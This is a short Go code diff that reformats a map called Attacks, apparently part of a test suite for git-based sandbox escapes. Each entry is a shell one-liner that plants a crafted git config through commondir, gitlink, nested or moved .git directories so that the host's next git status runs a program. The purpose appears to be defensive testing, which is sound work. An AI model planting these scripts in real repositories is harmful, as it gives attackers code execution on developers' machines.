@@ -12,8 +12,10 @@ const settings = `printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\
 
 // Attacks are shell scripts for the directory of a [Project]. Each makes the host's next git status run a program.
 var Attacks = map[string]string{
-	"commondir":           `mkdir c; cp -r .git/objects .git/refs c; ` + settings + `> c/config; echo ../c > .git/commondir`,
-	"gitlink":             `cp new-index .git/index; mkdir new; cp -r sub/.git new/.git; ` + settings + `> new/.git/config`,
+	"commondir": `mkdir c; cp -r .git/objects .git/refs c; ` + settings +
+		`> c/config; echo ../c > .git/commondir`,
+	"gitlink": `cp new-index .git/index; mkdir new; cp -r sub/.git new/.git; ` + settings +
+		`> new/.git/config`,
 	"uninitialised":       `cp -r sub/.git lib/.git; ` + settings + `> lib/.git/config`,
 	"nested":              `mv sub/.git sub/old; cp -r sub/old sub/.git; ` + settings + `> sub/.git/config`,
 	"directory":           `mv sub moved; cp -r moved sub; ` + settings + `> sub/.git/config`,
